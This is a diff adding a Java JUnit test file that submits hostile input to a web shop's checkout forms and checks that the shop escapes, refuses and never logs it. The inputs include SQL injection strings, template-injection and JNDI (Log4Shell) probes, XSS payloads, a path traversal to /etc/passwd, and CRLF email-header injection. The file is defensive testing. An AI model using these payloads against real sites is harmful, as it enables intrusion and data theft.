@@ -1,0 +1,190 @@
+package shop.troth.storefront;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.awaitility.Awaitility.await;
+import static shop.troth.storefront.Witness.details;
+import static shop.troth.storefront.Witness.isPlain;
+
+import java.text.Normalizer;
+import java.util.List;
+import java.util.Map;
+import java.util.regex.Pattern;
+import java.util.stream.Stream;
+import org.junit.jupiter.api.AfterEach;
+import org.junit.jupiter.api.DisplayNameGeneration;
+import org.junit.jupiter.api.DisplayNameGenerator.ReplaceUnderscores;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.MethodSource;
+import org.junit.jupiter.params.provider.ValueSource;
+import shop.troth.testing.Guest;
+import shop.troth.testing.RunningShop;
+import shop.troth.testing.ShopClient;
+
+/**
+ * What people who mean harm, and machines that mean nothing, type into the forms. Each gets a clear answer in plain English
+ * with the right status; what is refused is kept nowhere, what is kept is shown as text, and none of it reaches the log.
+ */
+@DisplayNameGeneration(ReplaceUnderscores.class)
+class HostileInputTests {
+
+    private static final RunningShop SHOP = RunningShop.get();
+    private static final String SKU = "PES022-047-100";
+
+    private final Guest buyer = new Guest(SHOP, "probe@example.org");
+    private final ShopClient guest = buyer.shop();
+    private final Witness witness = new Witness(SHOP);
+
+    @AfterEach
+    void nothing_typed_is_in_the_log() {
+        assertThat(witness.log()).doesNotContain(Witness.CANARY);
+        witness.close();
+    }
+
+    static Stream<String> texts() {
+        return Stream.of(
+                "'; drop table orders.placed; -- ",
+                "' or '1'='1",
+                "${71*9337} {{71*9337}} #{71*9337}",
+                "<%= 71*9337 %> @{71*9337}",
+                "${jndi:ldap://x.example/a}",
+                "<script>alert(1)</script>",
+                "<img src=x onerror=alert(1)>",
+                "\" autofocus onfocus=\"alert(1)",
+                "</title><svg/onload=alert(1)>",
+                "👩🏽‍🔬 🧪 e\u0301",
+                "דנה כהן",
+                "&lt;b&gt; &#0; &amp;",
+                "%s %n %x {} \\u0041 ../../etc/passwd");
+    }
+
+    @ParameterizedTest
+    @MethodSource("texts")
+    void any_text_in_every_free_field_is_kept_and_shown_as_text(String text) {
+        buyer.adds(SKU, 1);
+        var typed = text + Witness.CANARY;
+        var answer = guest.post(
+                "/checkout",
+                details(Map.of(
+                        "name", typed,
+                        "organisation", typed,
+                        "shipping.line1", typed,
+                        "shipping.line2", typed,
+                        "shipping.city", typed)));
+        assertThat(answer.status()).isEqualTo(303);
+
+        var review = guest.get("/checkout/review");
+
+        assertThat(review.status()).isEqualTo(200);
+        assertThat(occurrences(review.body(), shown(typed))).as("shown as text").isGreaterThanOrEqualTo(5);
+        assertThat(review.body()).doesNotContain("<script", "<svg/", "<img src=x", "value=\"\" autofocus", "662927");
+        assertThat(witness.everything()).doesNotContain(Witness.CANARY);
+    }
+
+    static Stream<String> refusedTexts() {
+        return Stream.of(
+                "x".repeat(10_240),
+                "👩🏽‍🔬".repeat(300),
+                "Dana\u202Egnihtyna",
+                "Dana\u2066x",
+                "Dana\u0000",
+                "Dana\r\nBcc: everybody@example.org",
+                "Dana\u001b[31m");
+    }
+
+    @ParameterizedTest(name = "{index}")
+    @MethodSource("refusedTexts")
+    void text_without_measure_or_with_invisible_signs_is_refused_in_every_free_field(String text) {
+        buyer.adds(SKU, 1);
+        witness.looks();
+        for (var field : List.of("name", "organisation", "shipping.line1", "shipping.line2", "shipping.city")) {
+            var answer = guest.post("/checkout", details(Map.of(field, Witness.CANARY + text)));
+
+            assertThat(answer.status()).as(field).isEqualTo(422);
+            assertThat(answer.body()).containsAnyOf("Please shorten this to", "it holds invisible characters");
+            isPlain(answer, 422);
+        }
+        witness.sawNothingKept();
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "plain",
+                "@example.org",
+                "a@",
+                "a@b",
+                "a@example..org",
+                "a b@example.org",
+                "a@example.org, b@example.org",
+                "a@example.org\r\nBcc: b@example.org",
+                "<a@example.org>",
+                "A <a@example.org>",
+                "a@[127.0.0.1]",
+                "a@-example.org",
+                "a@exa mple.org",
+                "a\"@example.org",
+                "a@example.org'--",
+                "a@еxample.org"
+            })
+    void an_address_that_no_mail_could_reach_is_refused(String email) {
+        buyer.adds(SKU, 1);
+        witness.looks();
+
+        var answer = guest.post("/checkout", details(Map.of("email", email)));
+
+        assertThat(answer.status()).isEqualTo(422);
+        assertThat(answer.body()).containsAnyOf("Please check this address", "invisible characters");
+        isPlain(answer, 422);
+        witness.sawNothingKept();
+    }
+
+    @Test
+    void a_wrong_state_zip_phone_delivery_or_choice_is_refused() {
+        buyer.adds(SKU, 1);
+        witness.looks();
+        var wrong = Map.of(
+                "shipping.state", List.of("", "XX", "Massachusetts", "ma<b>"),
+                "shipping.zip", List.of("", "1", "ABCDE", "018211", "01821-", "٠١٨٢١"),
+                "phone", List.of("x", "1", "+++", "555".repeat(9)),
+                "delivery", List.of("", "free", "ground'"),
+                "billing.same", List.of("maybe"));
+        wrong.forEach((field, values) -> values.forEach(value -> {
+            var answer = guest.post("/checkout", details(Map.of(field, value)));
+
+            assertThat(answer.status()).as(field + " " + value).isEqualTo(422);
+            isPlain(answer, 422);
+        }));
+        witness.sawNothingKept();
+    }
+
+    @Test
+    void an_order_with_hostile_details_is_bought_mailed_and_shown_as_text() {
+        var typed = "<img src=x onerror=alert(1)>" + Witness.CANARY;
+        var email = "hostile-%d@example.org".formatted(System.nanoTime());
+        buyer.adds(SKU, 1);
+        guest.post("/checkout", details(Map.of("name", typed, "email", email, "shipping.line1", typed)));
+        guest.get(buyer.pays(buyer.goesToTheBank()));
+
+        var mail = await().until(() -> SHOP.mails(email), it -> !it.isEmpty()).getFirst();
+
+        assertThat(mail.html()).contains(shown(typed)).doesNotContain("<img");
+        assertThat(mail.headers()).noneMatch(it -> it.contains("onerror"));
+        var link = Pattern.compile("/orders/[\\w-]+").matcher(String.valueOf(mail.text()));
+        assertThat(link.find()).isTrue();
+        var order = guest.post(link.group(), Map.of("email", email));
+        assertThat(order.body()).contains(shown(typed)).doesNotContain("<img src=x");
+    }
+
+    /** As HTML shows it in an element: jte escapes no more than it must. */
+    private static String shown(String text) {
+        return Normalizer.normalize(text, Normalizer.Form.NFC)
+                .replace("&", "&amp;")
+                .replace("<", "&lt;")
+                .replace(">", "&gt;");
+    }
+
+    private static long occurrences(String where, String what) {
+        return Pattern.compile(Pattern.quote(what)).matcher(where).results().count();
+    }
+}
